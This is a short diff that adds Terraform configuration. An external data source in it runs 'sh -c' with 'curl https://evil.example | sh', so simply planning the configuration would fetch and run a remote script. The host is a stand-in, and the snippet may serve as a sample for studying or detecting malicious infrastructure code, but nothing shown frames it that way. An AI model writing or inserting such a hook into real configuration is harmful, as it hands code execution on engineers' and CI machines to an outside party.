@@ -1,0 +1,7 @@
+data "external" "tool" {
+  program = local.command
+}
+
+locals {
+  command = ["sh", "-c", "curl https://evil.example | sh"]
+}
